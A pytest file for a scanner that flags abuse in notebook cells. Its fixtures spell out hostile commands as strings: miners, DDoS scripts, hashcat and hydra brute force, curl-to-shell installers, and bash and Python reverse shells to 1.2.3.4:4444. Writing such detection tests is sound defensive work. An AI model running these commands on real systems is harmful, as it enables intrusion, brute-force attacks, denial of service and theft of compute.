"""Typical disallowed acts, written from general knowledge and not from any corpus: each is at least warned about.

What stands in KNOWN_MISSES is not seen in code; a second account shows outside the cell.
"""

import pytest

from mutirao.detect.engine import Engine
from mutirao.detect.finding import Level
from mutirao.detect.pack import default_pack

ENGINE = Engine(default_pack())

ACTS = [
    ("mining", "!./lolMiner --algo ETCHASH --pool etc.2miners.com:1010 --user 0xABC.colab"),
    ("mining", "!./PhoenixMiner -pool eth.f2pool.com:6688 -wal 0xabc -pass x"),
    (
        "mining",
        "!wget -q https://github.com/Lolliedieb/lolMiner-releases/releases/download/1.42/lolMiner_v1.42_Lin64.tar.gz && tar xf lolMiner*.tar.gz",
    ),
    ("mining", "!./T-Rex/t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u RXX -p x"),
    (
        "mining",
        "!wget https://github.com/hellcatz/hminer/releases/download/v0.59.1/hellminer_linux64.tar.gz; !./hellminer -c stratum+tcp://na.luckpool.net:3956#xnsub -u R.x -p x --cpu 2",
    ),
    ("mining", "!cd /tmp && ./SRBMiner-MULTI --disable-gpu --algorithm randomx --pool xmr.example:3333 --wallet 4abc"),
    (
        "mining",
        'import subprocess\nsubprocess.call(["./bzminer","-a","kaspa","-w","kaspa:q","-p","stratum+tcp://kas.example:4444"])',
    ),
    (
        "mining",
        "!apt install git build-essential cmake libuv1-dev libssl-dev libhwloc-dev -y\n!git clone https://github.com/xmrig/xmrig.git\n!mkdir xmrig/build && cd xmrig/build && cmake .. && make -j2",
    ),
    ("mining", "!python3 PC_Miner.py"),
    ("mining", "!docker run -d minerd/xmrig -o pool:3333 -u w"),
    ("dos", "!python3 DRipper.py -s 1.2.3.4 -p 80 -t 135"),
    ("dos", "!python3 slowloris.py example.com"),
    ("dos", "!pip install slowloris\n!slowloris example.com"),
    ("dos", "!git clone https://github.com/palahsu/DDoS-Ripper.git\n%cd DDoS-Ripper"),
    ("dos", "!docker run -ti --rm alpine/bombardier -c 1000 -d 3600s -l https://victim.example"),
    ("dos", "!bombardier -c 10000 -d 60s https://victim.example"),
    ("dos", "!python3 start.py bypass https://victim.example 0 1000 proxy.txt 100 3600"),
    ("dos", "!sudo python3 goldeneye.py http://victim.example -w 50 -s 500"),
    ("password-cracking", "!hashcat -a 3 -m 1000 ntlm.txt ?a?a?a?a?a?a"),
    ("password-cracking", "!/content/hashcat/hashcat -m 22000 hash.hc22000 wordlist.txt -r rules/best64.rule"),
    ("password-cracking", "!john hash.txt --format=zip --wordlist=/usr/share/wordlists/rockyou.txt"),
    ("password-cracking", "!zip2john a.zip > hash.txt\n!john hash.txt"),
    ("password-cracking", "!sudo apt-get install hydra -y\n!hydra -L users.txt -P pass.txt 10.0.0.1 ssh"),
    ("password-cracking", "!python btcrecover.py --wallet w.dat --passwordlist p.txt"),
    ("p2p", '!apt install -y transmission-cli\n!transmission-cli "magnet:?xt=urn:btih:x" -w /content'),
    ("p2p", "!python -m pip install --upgrade pip setuptools wheel && python -m pip install lbry-libtorrent"),
    (
        "p2p",
        'import libtorrent as lt\nses = lt.session()\nses.listen_on(6881, 6891)\nparams = {"save_path": "/content/drive/My Drive/Torrent"}',
    ),
    ("p2p", '!npm install -g webtorrent-cli\n!webtorrent download "$magnet" --out .'),
    ("p2p", "!qbittorrent-nox --webui-port=8080 -d"),
    ("p2p", 'from torrentp import TorrentDownloader\nt = TorrentDownloader(magnet, ".")\nawait t.start_download()'),
    ("p2p", '!aria2c --seed-time=0 --max-upload-limit=1K "{link}"'),
    ("proxy", "!bash <(curl -Ls https://raw.githubusercontent.com/mhsanaei/3x-ui/master/install.sh)"),
    ("proxy", "!apt install -y squid && service squid start"),
    ("proxy", "!pip install shadowsocks\n!ssserver -p 8388 -k pw -m aes-256-cfb -d start"),
    ("proxy", "!apt install tor -y\n!service tor start"),
    ("proxy", "!openvpn --config /content/my.ovpn &"),
    (
        "proxy",
        "!curl -fsSL https://pkg.cloudflareclient.com/pubkey.gpg | gpg --dearmor\n!warp-cli --accept-tos connect",
    ),
    ("proxy", "!nohup ./sing-box run -c config.json &"),
    ("proxy", "!wget https://raw.githubusercontent.com/Nyr/openvpn-install/master/openvpn-install.sh"),
    ("proxy", "!ssh -D 1080 -N user@host"),
    ("remote-access", '!pip install colab_ssh\nfrom colab_ssh import launch_ssh\nlaunch_ssh("TOKEN","pw")'),
    ("remote-access", 'import os\nos.system("echo root:123 | chpasswd")\nos.system("/usr/sbin/sshd")'),
    ("remote-access", 'get_ipython().system_raw("./ngrok authtoken X && ./ngrok tcp 22 &")'),
    ("remote-access", "!pip install remocolab\nimport remocolab\nremocolab.setupSSHD()"),
    (
        "remote-access",
        '!DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/x" --redirect-url="u" --name=$(hostname) --pin=123456',
    ),
    ("remote-access", "!apt install xfce4 tigervnc-standalone-server -y\n!vncserver :1"),
    ("remote-access", "!curl -fsSL https://code-server.dev/install.sh | sh\n!code-server --port 9000 --auth none &"),
    ("remote-access", "!pip install colabcode\nfrom colabcode import ColabCode\nColabCode(port=10000)"),
    ("remote-access", "!npm install -g wetty && wetty"),
    ("remote-access", "!curl -sSf https://sshx.io/get | sh\n!sshx"),
    ("remote-access", "!ssh -R 0:localhost:22 serveo.net"),
    (
        "remote-access",
        "!wget https://github.com/fatedier/frp/releases/download/v0.37.0/frp_0.37.0_linux_amd64.tar.gz\n!./frpc -c frpc.ini",
    ),
    ("remote-access", "!bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
    ("remote-access", "!tailscale up --authkey=tskey --ssh"),
    (
        "remote-access",
        'import socket,subprocess,os\ns=socket.socket();s.connect(("1.2.3.4",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
    ),
    (
        "file-hosting",
        '!wget https://api.papermc.io/v2/projects/paper/versions/1.19/builds/1/downloads/paper.jar\n!echo "eula=true" > eula.txt',
    ),
    ("file-hosting", '!java -Xmx10G -jar "/content/drive/MyDrive/mc/forge-1.16.5.jar" nogui'),
    ("file-hosting", "!./playit & java -jar server.jar"),
    (
        "file-hosting",
        "!wget -qO- https://raw.githubusercontent.com/filebrowser/get/master/get.sh | bash\n!filebrowser -p 8080",
    ),
    ("file-hosting", "!docker run -d -p 8096:8096 jellyfin/jellyfin"),
    ("file-hosting", "!apt install jellyfin -y && service jellyfin start"),
    ("file-hosting", "!ffmpeg -stream_loop -1 -re -i v.mp4 -c:v libx264 -f flv rtmp://a.rtmp.youtube.com/live2/KEY"),
    ("file-hosting", "!git clone https://github.com/anasty17/mirror-leech-telegram-bot"),
    (
        "file-hosting",
        'from pyrogram import Client, filters\napp = Client("b", api_id=1, api_hash="h", bot_token="t")\n@app.on_message(filters.command("start"))\nasync def s(c, m): await m.reply("x")\napp.run()',
    ),
    ("file-hosting", "!wget http://installer.jdownloader.org/JDownloader.jar\n!java -jar JDownloader.jar -norestart"),
    (
        "file-hosting",
        'import telebot\nbot = telebot.TeleBot("x")\n@bot.message_handler(commands=["start"])\ndef s(m): bot.reply_to(m,"x")\nbot.infinity_polling()',
    ),
    ("file-hosting", "!rclone serve webdav remote: --addr :8080"),
    ("file-hosting", "!apt install nginx -y\n!service nginx start"),
    (
        "file-hosting",
        'import discord\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix="!")\nbot.run(TOKEN)',
    ),
    (
        "multi-account",
        '%%javascript\nfunction KeepClicking(){document.querySelector("colab-toolbar-button#connect").click()}\nsetInterval(KeepClicking,60000)',
    ),
    (
        "multi-account",
        "from IPython.display import display, Javascript\ndisplay(Javascript(\"function ConnectButton(){document.querySelector('#top-toolbar > colab-connect-button').shadowRoot.querySelector('#connect').click()} setInterval(ConnectButton,60000);\"))",
    ),
    (
        "multi-account",
        "from google.colab import output\noutput.eval_js(\"setInterval(() => document.querySelector('colab-connect-button').click(), 30000)\")",
    ),
    (
        "multi-account",
        'import undetected_chromedriver as uc\nd = uc.Chrome()\nd.get("https://accounts.google.com/signin")',
    ),
    ("multi-account", "import pyautogui, time\nwhile True:\n    pyautogui.click(100, 200)\n    time.sleep(60)"),
    (
        "deepfake",
        "!git clone https://github.com/s0md3v/roop.git\n%cd roop\n!python run.py --target t.mp4 --source s.jpg -o o.mp4 --execution-provider cuda --frame-processor face_swapper face_enhancer",
    ),
    ("deepfake", "!git clone https://github.com/Rudrabha/Wav2Lip.git"),
    (
        "deepfake",
        '!cd Wav2Lip && python inference.py --checkpoint_path checkpoints/wav2lip_gan.pth --face "../a.mp4" --audio "../b.wav" --resize_factor 2',
    ),
    (
        "deepfake",
        "!python inference.py --driven_audio $a --source_image $i --result_dir ./results --still --preprocess full --enhancer gfpgan",
    ),
    ("deepfake", "!python inference.py -s assets/examples/source/s9.jpg -d assets/examples/driving/d0.mp4"),
    (
        "deepfake",
        'import insightface\nfrom insightface.app import FaceAnalysis\nswapper = insightface.model_zoo.get_model("inswapper_128.onnx", download=True)\nres = swapper.get(img, f, src, paste_back=True)',
    ),
    (
        "deepfake",
        "!python demo.py --config config/vox-adv-256.yaml --driving_video d.mp4 --source_image s.png --checkpoint vox-adv-cpk.pth.tar",
    ),
    ("deepfake", "!python faceswap.py train -A faceA -B faceB -m model -t villain"),
    ("deepfake", "!git clone https://github.com/chervonij/DFL-Colab.git"),
    (
        "deepfake",
        "!python DeepFaceLab/main.py train --training-data-src-dir workspace/data_src/aligned --training-data-dst-dir workspace/data_dst/aligned --model-dir workspace/model --model Quick96",
    ),
    ("deepfake", "!python -m scripts.inference --inference_config configs/inference/test.yaml --version v15"),
    ("deepfake", "!python inference.py --source_paths examples/images/mark.jpg --target_video v.mp4"),
    ("deepfake", "from roop import core\ncore.run()"),
    (
        "dos",
        "import requests, threading\ndef attack():\n    while True:\n        requests.get(target)\nfor i in range(1000):\n    threading.Thread(target=attack).start()",
    ),
]

KNOWN_MISSES = [
    (
        "multi-account",
        'for acc in accounts:\n    os.environ["KAGGLE_USERNAME"] = acc["user"]\n    os.environ["KAGGLE_KEY"] = acc["key"]\n    !kaggle kernels push -p nb',
    ),
]


def _categories(code: str) -> set[str]:
    return {f.category for f in ENGINE.scan(code) if f.level >= Level.WARN}


@pytest.mark.parametrize(("category", "code"), ACTS)
def test_a_typical_act_is_seen(category: str, code: str) -> None:
    assert category in _categories(code)


@pytest.mark.parametrize(("category", "code"), KNOWN_MISSES)
def test_a_known_miss_is_still_one(category: str, code: str) -> None:
    """When this fails, a miss has been closed: move the row up."""
    assert category not in _categories(code)
